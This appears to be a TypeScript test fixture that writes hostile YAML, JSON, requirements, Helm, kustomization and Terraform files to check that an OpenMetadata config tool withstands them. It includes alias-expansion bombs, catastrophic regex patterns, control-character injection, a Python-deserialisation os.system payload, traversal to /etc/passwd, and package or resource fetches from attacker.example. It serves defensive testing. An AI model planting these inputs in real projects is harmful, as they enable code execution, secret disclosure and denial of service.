import { OLD_WORKFLOW } from '../old-workflow';
import type { HostileFolder } from './hostile-folder';

const VALUES = 'openmetadata:\n  config:\n    clusterName: prod\n';
const times = (count: number, text: string): string => text.repeat(count);

/** A file by its name; everything in it costs much to read, if somebody reads it carelessly. */
const TEXTS: Readonly<Record<string, readonly [name: string, text: () => string]>> = {
  'brackets in brackets': ['a.yaml', () => `${OLD_WORKFLOW}x: ${times(100_000, '[')}\n`],
  'closed brackets in brackets': ['a.yaml', () => `${OLD_WORKFLOW}x: ${times(20_000, '[')}${times(20_000, ']')}\n`],
  'maps in maps': ['a.yaml', () => `${OLD_WORKFLOW}x: ${times(50_000, '{a: ')}\n`],
  'lists in lists': ['a.yaml', () => `${OLD_WORKFLOW}x:\n  ${times(20_000, '- ')}1\n`],
  'keys below keys': [
    'a.yaml',
    () => OLD_WORKFLOW + Array.from({ length: 2000 }, (_, at) => `${' '.repeat(at)}k:\n`).join(''),
  ],
  'a deep JSON file': ['a.json', () => `{"source": ${times(50_000, '{"a":')}1${times(50_000, '}')}}`],
  'a deep list of JSON': ['a.json', () => `{"source": ${times(100_000, '[')}${times(100_000, ']')}}`],
  'aliases that multiply': [
    'a.yaml',
    () =>
      OLD_WORKFLOW +
      'a0: &a0 [x, x, x, x, x, x, x, x, x]\n' +
      Array.from({ length: 30 }, (_, at) => `a${at + 1}: &a${at + 1} [${times(9, `*a${at}, `)}]\n`).join(''),
  ],
  'merge keys that multiply': [
    'a.yaml',
    () =>
      'a0: &a0 {x: 1}\n' +
      Array.from({ length: 40 }, (_, at) => `a${at + 1}: &a${at + 1} {<<: [*a${at}, *a${at}]}\n`).join('') +
      OLD_WORKFLOW.replace('serviceName: db', 'serviceName: db\n  <<: *a40'),
  ],
  'an alias of itself': ['a.yaml', () => `${OLD_WORKFLOW}x: &x {y: *x}\n`],
  'very many anchors': [
    'a.yaml',
    () => OLD_WORKFLOW + Array.from({ length: 20_000 }, (_, at) => `a${at}: &x *x\n`).join(''),
  ],
  backslashes: ['a.yaml', () => `${OLD_WORKFLOW}password: "${times(50_000, '\\\\')}"\n`],
  quotes: ['a.yaml', () => `${OLD_WORKFLOW}x: ${times(100_000, "'")}\n`],
  'blanks in a line': [
    'a.yaml',
    () => `${OLD_WORKFLOW}x: "${times(100_000, ' ')}"\nincludeViws: 1${times(100_000, ' ')}x\n`,
  ],
  'secrets in a line': ['a.yaml', () => `${OLD_WORKFLOW}includeViws: "${times(7_000, 'password: ')}"\n`],
  'addresses in a line': ['a.yaml', () => `${OLD_WORKFLOW}includeViws: "${times(20_000, '://a:')}"\n`],
  'commands in a line': ['a.yaml', () => `${OLD_WORKFLOW}includeViws: "${times(15_000, 'curl -u a:')}"\n`],
  'calls in a line': ['a.yaml', () => `${OLD_WORKFLOW}includeViws: "${times(15_000, 'login(a, ')}"\n`],
  'tables of one column': ['a.yaml', () => `${OLD_WORKFLOW}x: |\n${times(2000, '  password,user\n')}`],
  'placeholders that nothing closes': [
    'a.yaml',
    () => `${OLD_WORKFLOW}x: ${times(30_000, '${')}\ny: ${times(30_000, '{{')}\n`,
  ],
  'patterns that take long': [
    'a.yaml',
    () =>
      OLD_WORKFLOW.replace(
        'overrideViewLineage: true',
        `schemaFilterPattern: {includes: ["(a+)+$", "(a|a)*b", "${times(5000, '(a*)*')}", "[", "(?<a>"]}`,
      ),
  ],
  'comments without end': ['a.yaml', () => `# omconfig: ignore[${times(50_000, 'x,')}]\n${OLD_WORKFLOW}`],
  'very many documents': ['a.yaml', () => times(3000, `---\na: 1\n`) + `---\n${OLD_WORKFLOW}`],
  'very many problems': ['a.yaml', () => OLD_WORKFLOW + times(20_000, 'zz: 1\n')],
  'control characters': [
    'a.yaml',
    () => `${OLD_WORKFLOW}"\u001B[2J\u001B]0;x\u0007\u202E": "\u009B31m"\nincludeViws: "\u001B[31m"\n`,
  ],
  'a tree of includes': [
    'a.yaml',
    () => `${OLD_WORKFLOW}x: !include a.yaml\ny: !!python/object/apply:os.system ["touch executed.txt"]\n`,
  ],
  'settings that never match': [
    'omconfig.yaml',
    () => `exclude: ["${times(500, '**/')}x", "${times(30, '{a,b}')}", "${times(200, '*a')}b"]\n`,
  ],
  'very many settings': ['omconfig.yaml', () => `exclude:\n${times(20_000, '  - "a*b"\n')}`],
  'settings that are a bomb': ['omconfig.yaml', () => `a: &a [x]\nexclude: ${times(30_000, '[')}\n`],
  'settings that lead elsewhere': [
    'omconfig.yaml',
    () => 'include: ["../../**", "/etc/**"]\nbaseline: ../../outside/private.yaml\nextends: /etc/passwd\n',
  ],
  'patterns of git': ['.gitignore', () => `${times(300, '**/')}a\n${times(3000, '*a')}b\n${times(10_000, '!x\n')}`],
  'pins without end': [
    'requirements.txt',
    () => `openmetadata-ingestion==${times(100_000, '1.')}\n${times(50_000, '-r requirements.txt\n')}`,
  ],
  'pins elsewhere': [
    'requirements.txt',
    () => '-r ../outside/private.yaml\n-r /dev/zero\n-c ../../../etc/passwd\n-e git+https://attacker.example/x\n',
  ],
  'a Dockerfile without end': [
    'Dockerfile',
    () => `FROM ${times(50_000, 'a/')}openmetadata/ingestion:1.5\n${times(20_000, 'RUN a \\\n')}`,
  ],
  'a chart that leads elsewhere': [
    'chart/Chart.yaml',
    () =>
      'apiVersion: v2\nname: x\nversion: 1.0.0\ndependencies:\n  - {name: openmetadata, version: 1.5.4, repository: "file://../../outside"}\n  - {name: openmetadata, version: "1", repository: "file:///dev"}\n',
  ],
  'manifests that lead elsewhere': [
    'app.yaml',
    () =>
      'apiVersion: argoproj.io/v1alpha1\nkind: Application\nspec:\n  source:\n    chart: openmetadata\n    targetRevision: 1.5.1\n    helm:\n      valueFiles: [../../outside/private.yaml, /etc/passwd, ../../../../../../etc/passwd, "$values/../../outside/private.yaml", /dev/zero]\n',
  ],
  'a kustomization that leads elsewhere': [
    'kustomization.yaml',
    () =>
      'resources: [../outside, ../outside/private.yaml, /etc, https://attacker.example/x]\nhelmCharts:\n  - {name: openmetadata, version: 1.5.1, valuesFile: ../outside/private.yaml}\n',
  ],
  'values of a deep chart': ['values.yaml', () => `${VALUES}    x: ${times(10_000, '{a: ')}1${times(10_000, '}')}\n`],
  'a program with deep brackets': [
    'dag.py',
    () => `from metadata.workflow.metadata import MetadataWorkflow\nconfig = ${times(30_000, '(')}\n`,
  ],
  'a program with long texts': [
    'dag.py',
    () =>
      `import metadata\nconfig = """\n${OLD_WORKFLOW}${times(50_000, '\\\\')}"""\nx = '''${times(100_000, '"""')}\n`,
  ],
  'a page with very many fences': ['page.md', () => `# OpenMetadata\n${times(20_000, '```yaml\n')}${OLD_WORKFLOW}`],
  'bytes that are no text': ['a.yaml', () => `${OLD_WORKFLOW}\0\0\uFFFD\uFEFF`],
  'a lock file without end': [
    'poetry.lock',
    () => times(30_000, '[[package]]\nname = "openmetadata-ingestion"\nversion = "1.5.4"\n'),
  ],
  'Terraform without end': [
    'main.tf',
    () => `resource "helm_release" "x" {\n  chart = "openmetadata"\n${times(30_000, 'set {\n')}`,
  ],
};

/** Files whose text costs much, or leads elsewhere. */
export const HOSTILE_TEXTS: Readonly<Record<string, (folder: HostileFolder) => void>> = Object.fromEntries(
  Object.entries(TEXTS).map(([name, [file, text]]) => [
    name,
    (folder: HostileFolder): void => {
      folder.write(file, text());
    },
  ]),
);
